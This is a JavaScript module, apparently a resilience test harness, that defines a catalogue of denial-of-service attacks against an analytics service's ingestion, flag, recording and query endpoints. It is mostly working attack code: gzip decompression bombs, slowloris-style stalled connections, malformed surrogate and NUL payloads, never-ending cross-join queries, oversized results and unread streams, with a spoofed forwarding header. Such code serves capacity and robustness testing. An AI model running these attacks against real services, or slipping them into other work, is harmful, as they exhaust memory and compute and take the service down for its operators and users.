import { gzipSync } from 'node:zlib'

const MB = 1_000_000
// Numbers of connections, and the bytes that each sends before it stalls. Together they exceed the memory for bodies. The
// small ones use the room that is left when a large one does not fit.
const SILENT = [
  { count: 80, bytes: MB },
  { count: 60, bytes: 30_000 },
  { count: 60, bytes: 1_000 },
]
const KNOCKS = 20
// Uses up any time limit, of a check or of a run.
const endless = (n) =>
  `SELECT count() FROM (SELECT arrayJoin(range(1000000)) AS a) AS x CROSS JOIN (SELECT arrayJoin(range(1000000)) AS b) AS y WHERE cityHash64(a, b) = ${n}`

const filled = (start, piece, end, bytes) =>
  Buffer.concat([Buffer.from(start), Buffer.alloc(bytes - start.length - end.length, piece), Buffer.from(end)])

/** Bodies of a few kB that are large when decompressed. */
const BOMBS = {
  objects: ({ token }) => filled(`{"api_key":"${token}","batch":[{}`, ',{}', ']}', 60 * MB),
  nesting: () => filled('[', '[', '[', 60 * MB),
  keys: ({ token }) =>
    Buffer.from(
      `{"api_key":"${token}","batch":[{"event":"e","properties":{${Array.from({ length: 1_500_000 }, (_, n) => `"${n.toString(36)}":1`).join(',')}}}]}`,
    ),
  recording: ({ token }) =>
    Buffer.from(
      `{"api_key":"${token}","batch":[{"event":"$snapshot","properties":{"$session_id":"a","distinct_id":"a","$snapshot_data":[{"type":3,"timestamp":${Date.now()},"data":{${Array.from({ length: 990_000 }, (_, n) => `"${n.toString(36)}":1`).join(',')}}}]}}]}`,
    ),
  mappings: () => filled('{"version":3,"sources":["a"],"names":[],"mappings":"AAAA', ',AAAA', '"}', 60 * MB),
  blanks: ({ token }) => filled(`{"api_key":"${token}",`, ' ', '"batch":[]}', 60 * MB),
}

// Compressed once, so that the attacker's own work does not slow down the attack.
const compressed = new Map()
const bombOf = (name, context) => {
  if (!compressed.has(name)) compressed.set(name, gzipSync(BOMBS[name](context), { level: 6 }))
  return compressed.get(name)
}

const bomb = (name, path = '/e/') => ({
  atOnce: 1,
  send: ({ client, ...context }) =>
    client.ask({
      path: `${path}?compression=gzip-js`,
      headers: { 'content-type': 'text/plain' },
      body: bombOf(name, context),
    }),
})

const announcing = (token, bytes) =>
  `POST /e/ HTTP/1.1\r\nhost: 127.0.0.1\r\nx-forwarded-for: 198.51.100.9\r\ncontent-type: text/plain\r\ncontent-length: 4000000\r\n\r\n{"api_key":"${token}",${' '.repeat(bytes)}`

/** Keeps connections open for the whole attack. Calls `tick` with each of them every second. */
const holding = (tick) => ({
  atOnce: 1,
  async send({ client, token, endAt, pause }) {
    const sockets = []
    for (const { count, bytes } of SILENT) {
      for (let n = 0; n < count; n += 1) sockets.push(client.open(announcing(token, bytes)))
      await pause(200)
    }
    while (performance.now() < endAt) {
      await pause(1_000)
      sockets.filter((socket) => socket.writable).forEach(tick)
    }
    const closed = sockets.filter((socket) => !socket.writable).length
    for (const socket of sockets) socket.destroy()
    return `${closed} of ${sockets.length} closed by the service`
  },
})

const HOSTILE = [
  { event: 'hostile', properties: { distinct_id: '😀'.slice(0, 1) } },
  { event: '\udc00', properties: { distinct_id: 'a', '\ud800': 'x' } },
  { event: 'hostile', properties: { distinct_id: 'a\u0000b', nul: '\u0000' } },
  { event: 'hostile', timestamp: '9999-99-99', properties: { distinct_id: 'a', $set: { x: '\udfff' } } },
  { event: '$groupidentify', properties: { distinct_id: 'a', $group_type: '\ud800', $group_key: '\ud800' } },
  { event: '$identify', properties: { distinct_id: '\ud83d', $anon_distinct_id: '\ude00' } },
]

const ISSUES_EVERY = 10
/** Events of an error with all the causes and frames that the service reads, and a stack that no other event has. */
const exceptions = (n) =>
  Array.from({ length: 10 }, (_, event) => ({
    event: '$exception',
    properties: {
      distinct_id: 'a',
      $exception_list: Array.from({ length: 20 }, (_, cause) => ({
        type: `E${n}_${event}_${cause}`,
        value: 'x'.repeat(100),
        stacktrace: {
          frames: Array.from({ length: 50 }, (_, line) => ({
            filename: `https://shop.example/${n}/${event}.js`,
            function: `f${line}`,
            lineno: line + 1,
            colno: cause + 1,
          })),
        },
      })),
    },
  }))

const json = { 'content-type': 'application/json' }
const asKey = (key) => ({ ...json, authorization: `Bearer ${key}` })

/** People with values of almost the maximum size, whom `preparePeople` stores for the attacker's project. */
const PEOPLE = 520
const PEOPLE_PER_BODY = 20
const LONG_VALUE = `${'x'.repeat(60_000)}end`

/** Stores people with long values, and creates a flag that depends on them. */
export const preparePeople = async ({ url, token, projectId, key }) => {
  const post = async (path, headers, body) => {
    const response = await fetch(`${url}${path}`, { method: 'POST', headers, body })
    if (!response.ok) throw new Error(`POST ${path} failed with status ${response.status}: ${await response.text()}`)
  }
  for (let first = 0; first < PEOPLE; first += PEOPLE_PER_BODY) {
    const batch = Array.from({ length: PEOPLE_PER_BODY }, (_, n) => ({
      event: '$set',
      properties: { distinct_id: `long-${first + n}`, $set: { bio: LONG_VALUE } },
    }))
    await post('/e/?compression=gzip-js', {}, gzipSync(JSON.stringify({ api_key: token, batch })))
  }
  const properties = [{ key: 'bio', type: 'person', operator: 'icontains', value: 'END' }]
  await post(
    `/api/projects/${projectId}/feature_flags/`,
    asKey(key),
    JSON.stringify({ key: 'long', active: true, filters: { groups: [{ properties, rollout_percentage: 100 }] } }),
  )
}

/** Sends a query. */
const querying = (query, more = {}) => ({
  atOnce: 4,
  send: ({ client, projectId, key, n }) =>
    client.ask({
      path: `/api/projects/${projectId}/query/`,
      headers: asKey(key),
      // A number, so that no response comes from the cache.
      body: JSON.stringify({
        query: { kind: 'HogQLQuery', query: `${query}, ${n} AS n${more.from ?? ''}` },
        ...more.options,
      }),
      timeoutMs: 60_000,
    }),
})

/** The attacks, in order. `send` is called by `atOnce` concurrent loops until the time is over, at most `most` times. */
export const ATTACKS = {
  'nothing: honest traffic alone': { atOnce: 0 },
  'bomb of {},{},… to /e/': bomb('objects'),
  'bomb of [[[[… to /e/': bomb('nesting'),
  'bomb of distinct keys to /e/': bomb('keys'),
  'bomb of blanks (ratio 1,000) to /e/': bomb('blanks'),
  'bomb of {},{},… to /flags': bomb('objects', '/flags/'),
  'forms of a million plus signs to /e/': {
    atOnce: 1,
    send: ({ client }) =>
      client.ask({ path: '/e/', headers: { 'content-type': 'text/plain' }, body: `data=${'+'.repeat(1_000_000)}` }),
  },
  'recordings of a million keys to /s/': bomb('recording', '/s/'),
  'source maps of 12 million mappings': {
    atOnce: 1,
    send: ({ client, projectId, key, ...context }) =>
      client.ask({
        method: 'PUT',
        path: `/api/projects/${projectId}/error_tracking/sourcemaps/00000000-bomb`,
        headers: { ...asKey(key), 'content-type': 'application/gzip' },
        body: bombOf('mappings', context),
        timeoutMs: 60_000,
      }),
  },
  'three bombs at once': { ...bomb('objects'), atOnce: 3 },
  'silent bodies': holding(() => {}),
  'slow bodies': holding((socket) => socket.write(' ')),
  'hostile rows': {
    atOnce: 2,
    send: async ({ client, token, pause }) => {
      const status = await client.ask({
        path: '/e/',
        headers: json,
        // JSON escapes lone surrogates.
        body: JSON.stringify({ api_key: token, batch: HOSTILE }),
      })
      await pause(50)
      return status
    },
  },
  'flood of exceptions, with issue reads': {
    atOnce: 2,
    send: ({ client, token, projectId, key, n }) =>
      n % ISSUES_EVERY
        ? client.ask({ path: '/e/', headers: json, body: JSON.stringify({ api_key: token, batch: exceptions(n) }) })
        : client.ask({
            method: 'GET',
            path: `/api/projects/${projectId}/error_tracking/issues`,
            headers: asKey(key),
            timeoutMs: 60_000,
          }),
  },
  'heavy creates by one project': {
    atOnce: KNOCKS,
    send: ({ client, projectId, key, n }) =>
      client.ask({
        path: `/api/projects/${projectId}/endpoints/`,
        headers: asKey(key),
        body: JSON.stringify({
          name: `heavy_${process.pid}_${n}`,
          query: { kind: 'HogQLQuery', query: `SELECT (${endless(n)}) AS value` },
        }),
      }),
  },
  'heavy runs by one project': {
    atOnce: KNOCKS * 2,
    send: ({ client, projectId, key, otherKey, n }) =>
      client.ask({
        path: `/api/projects/${projectId}/endpoints/endless/run`,
        headers: asKey(n % 2 ? key : otherKey),
        body: JSON.stringify({ variables: { n } }),
        timeoutMs: 60_000,
      }),
  },
  '500 flag requests for people with long values': {
    atOnce: 1,
    async send({ client, token }) {
      const statuses = await Promise.all(
        Array.from({ length: 500 }, (_, n) =>
          client.ask({ path: '/flags/?v=2', headers: json, body: JSON.stringify({ token, distinct_id: `long-${n}` }) }),
        ),
      )
      return statuses.find((status) => status !== 200) ?? 200
    },
  },
  'lists of people with long values': {
    atOnce: 4,
    send: ({ client, projectId, key }) =>
      client.ask({
        method: 'GET',
        path: `/api/projects/${projectId}/persons?limit=300`,
        headers: asKey(key),
        timeoutMs: 60_000,
      }),
  },
  'the flag editor with long values': {
    atOnce: 2,
    send: ({ client, projectId, key }) =>
      client.ask({
        path: `/api/projects/${projectId}/feature_flags/matches/`,
        headers: asKey(key),
        body: '{"flag":"long"}',
        timeoutMs: 60_000,
      }),
  },
  'results of wide rows': querying("SELECT repeat('a', 1000000) AS a", {
    from: ' FROM (SELECT arrayJoin(range(200)))',
  }),
  'results of long lists': querying('SELECT arrayMap(x -> toString(x), range(500000)) AS a'),
  'one cell of 60 MB as NDJSON': querying("SELECT repeat(repeat('a', 1000), 60000) AS a", {
    options: { format: 'ndjson' },
  }),
  'recordings of 500 foreign session ids': {
    atOnce: 4,
    send: ({ client, token, n }) =>
      client.ask({
        path: '/s/?compression=gzip-js',
        headers: { 'content-type': 'text/plain' },
        body: foreignChunks(token, n),
      }),
  },
  'unread streams': {
    atOnce: KNOCKS,
    async send({ client, projectId, key, pause, endAt }) {
      const status = await client.ask({
        path: `/api/projects/${projectId}/endpoints/wide/run`,
        headers: asKey(key),
        body: '{"format":"csv"}',
        isRead: false,
      })
      await pause(Math.max(0, endAt - performance.now()))
      return status
    },
  },
}

const FOREIGN_CHUNKS = 500
/** A body of chunks, each of another session whose id does not contain its start. */
const foreignChunks = (token, n) =>
  gzipSync(
    JSON.stringify(
      Array.from({ length: FOREIGN_CHUNKS }, (_, at) => ({
        event: '$snapshot',
        properties: {
          token,
          $session_id: `foreign-${n}-${at}`,
          distinct_id: 'a',
          $snapshot_data: [{ type: 3, timestamp: Date.now(), data: { source: 0 } }],
        },
      })),
    ),
  )

/** Endpoints of the attacker's project, created before the attacks: name and query. */
export const ENDPOINTS = [
  ['endless', endless('{variables.n}')],
  ['wide', "SELECT arrayJoin(range(100000)) AS n, repeat('x', 100) AS text"],
]
